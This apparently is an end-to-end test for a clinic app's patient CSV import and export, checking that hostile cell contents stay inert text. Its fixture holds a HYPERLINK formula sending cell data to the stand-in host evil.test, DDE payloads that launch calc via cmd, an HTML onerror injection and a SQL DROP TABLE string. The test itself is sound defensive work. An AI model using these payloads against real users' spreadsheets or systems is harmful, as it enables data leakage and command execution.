import papaparse from 'papaparse';
import { openClinic } from '../commands/clinic.ts';
import { type SavedFile, saveFile } from '../commands/files.ts';
import { createGroup } from '../commands/records.ts';
import { signInAs } from '../commands/sign-in.ts';
import { expect, test } from '../commands/test.ts';
import { EnrollmentsPage } from '../pages/enrollments-page.ts';
import { ImportPage } from '../pages/import-page.ts';
import { PatientsPage } from '../pages/patients-page.ts';
import { Shell } from '../pages/shell.ts';

const BYTE_ORDER_MARK = [0xef, 0xbb, 0xbf];
/** What a spreadsheet calculates: https://owasp.org/www-community/attacks/CSV_Injection */
const RUNS_AS_FORMULA = /^[\s]*[=+\-@＝＋－＠]|^[\t\r\n]/;

const MEGABYTE = 'x'.repeat(1024 * 1024);
const HTML_NAME = '<img src=x onerror="document.title=1">';
const LINK = '=HYPERLINK("https://evil.test/?"&A1;"open")';
const COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0";

/** A file as a spreadsheet in German writes it, with what people put into cells to see what happens. */
const HOSTILE = [
  'MRN;First name;Last name;Preferred name;Phone;Notes',
  `H-1;"${HTML_NAME.replaceAll('"', '""')}";"O'Brien; ""Bobby""";;;"first line\nsecond; line\n\n""quoted"""`,
  `H-2;"${LINK.replaceAll('"', '""')}";"-2+3+cmd|' /C calc'!A0";"${COMMAND}";+1 602 555 0100;"=1+1"`,
  `H-3;Big;Cell;;;${MEGABYTE}`,
  'H-4;Ünïcödé;"𝒁𝒂𝒍𝒈𝒐 مرحبا";;;',
  'H-5;Robert"); DROP TABLE pm_patients;--;Tables;;;Students',
].join('\r\n');

function cellsOf({ text }: SavedFile, delimiter: string): string[][] {
  return papaparse.parse<string[]>(text.replace('\uFEFF', '').trimEnd(), { delimiter }).data;
}

function expectDefused({ bytes, text }: SavedFile, delimiter: string): void {
  expect([...bytes.subarray(0, 3)]).toEqual(BYTE_ORDER_MARK);
  // An apostrophe in front makes a spreadsheet show the text; a phone number is not harmed.
  const risky = cellsOf({ name: '', bytes, text }, delimiter)
    .flat()
    .filter((cell) => RUNS_AS_FORMULA.test(cell) && cell !== '+1 602 555 0100');
  expect(risky).toEqual([]);
}

test('a hostile file: text stays text in the record, on the screen and in every file that comes out again', async ({
  page,
}) => {
  const shell = new Shell(page);
  const importing = new ImportPage(page);
  const enrollments = new EnrollmentsPage(page);
  const clinic = await openClinic();
  const { client } = clinic.people.org_admin;
  await signInAs(page, clinic, 'front_desk');
  await importing.open(clinic);

  await test.step('Given a file with BOM, semicolons, line breaks, a cell of 1 MB, HTML and formulas', async () => {
    await importing.choose(
      'exported; "list".csv',
      Buffer.concat([Buffer.from(BYTE_ORDER_MARK), Buffer.from(HOSTILE, 'utf8')]),
    );
    await expect(importing.step('Match the columns')).toBeVisible();
    await expect(importing.column('MRN')).toHaveValue('mrn');
    await importing.checkRows.click();
  });

  await test.step('Then lines are counted as an editor does, and only what cannot be is refused', async () => {
    // The first patient's notes take lines 2 to 5.
    await expect(importing.row(2)).toContainText(`${HTML_NAME} O'Brien; "Bobby"`);
    await expect(importing.row(7)).toContainText('Notes “xxxx');
    await expect(importing.row(9)).toContainText(/cells, but the first line names 6/);
    await expect(importing.start).toHaveText('Import 3 patients');
    await importing.start.click();
    await expect(importing.step('The import is done')).toBeVisible();
  });

  await test.step('Then the record has to the letter what the file had', async () => {
    const { data } = await client
      .from('pm_patients')
      .select('mrn, first_name, last_name, preferred_name, phone, notes')
      .eq('organization_id', clinic.id)
      .order('mrn')
      .throwOnError();
    expect(data).toEqual([
      {
        mrn: 'H-1',
        first_name: HTML_NAME,
        last_name: 'O\'Brien; "Bobby"',
        preferred_name: null,
        phone: null,
        notes: 'first line\nsecond; line\n\n"quoted"',
      },
      {
        mrn: 'H-2',
        first_name: LINK,
        last_name: "-2+3+cmd|' /C calc'!A0",
        preferred_name: COMMAND,
        phone: '+1 602 555 0100',
        notes: '=1+1',
      },
      {
        mrn: 'H-4',
        first_name: 'Ünïcödé',
        last_name: '𝒁𝒂𝒍𝒈𝒐 مرحبا',
        preferred_name: null,
        phone: null,
        notes: null,
      },
    ]);
  });

  await test.step('When the rest is saved, Then it comes back divided as it was, cell of 1 MB included', async () => {
    const rest = await saveFile(page, () => importing.rest.click());
    expectDefused(rest, ';');
    const [header, ...rows] = cellsOf(rest, ';');
    expect(header?.slice(0, 3)).toEqual(['Line', 'Problem', 'MRN']);
    expect(rows.map(([line]) => line)).toEqual(['7', '9']);
    expect(rows[0]?.includes(MEGABYTE)).toBe(true);
  });

  const exported = await test.step('When the patients are exported, Then no cell runs as a formula', async () => {
    await shell.open(clinic, 'pm/patients');
    await expect(new PatientsPage(page).patient(`${HTML_NAME} O'Brien; "Bobby"`)).toBeVisible();
    await expect(page).not.toHaveTitle('1');
    const file = await saveFile(page, () => page.getByRole('button', { name: 'Export CSV' }).click());
    expectDefused(file, ',');
    const ofLink = cellsOf(file, ',').find(([mrn]) => mrn === 'H-2');
    expect(ofLink?.slice(0, 6)).toEqual([
      'H-2',
      `'${LINK}`,
      "'-2+3+cmd|' /C calc'!A0",
      `'${COMMAND}`,
      '',
      '+1 602 555 0100',
    ]);
    return file;
  });

  await test.step('When the exported file is imported again, Then nothing has changed on the way', async () => {
    await importing.open(clinic);
    await importing.choose(exported.name, exported.bytes);
    await importing.checkRows.click();
    await expect(page.getByText('All of these patients are here already, with the same values.')).toBeVisible();
  });

  await test.step('When the roster of a group named by a formula is saved, Then it is defused as well', async () => {
    const groupId = await createGroup(clinic, { name: '=1+1 "Circle"/..\\', max_capacity: 5 });
    const { data } = await client.from('pm_patients').select('id').eq('organization_id', clinic.id).throwOnError();
    await client
      .rpc('pm_bulk_enroll_patients', { group_definition_id: groupId, patient_ids: data.map(({ id }) => id) })
      .throwOnError();
    await enrollments.open(clinic, groupId);
    const roster = await saveFile(page, () => enrollments.chooseForPaper('Export CSV: roster'));
    expect(roster.name).toMatch(/^roster-1-1-circle-\d{4}-\d\d-\d\d\.csv$/);
    expectDefused(roster, ',');
    expect(cellsOf(roster, ',')).toHaveLength(4);
  });
});
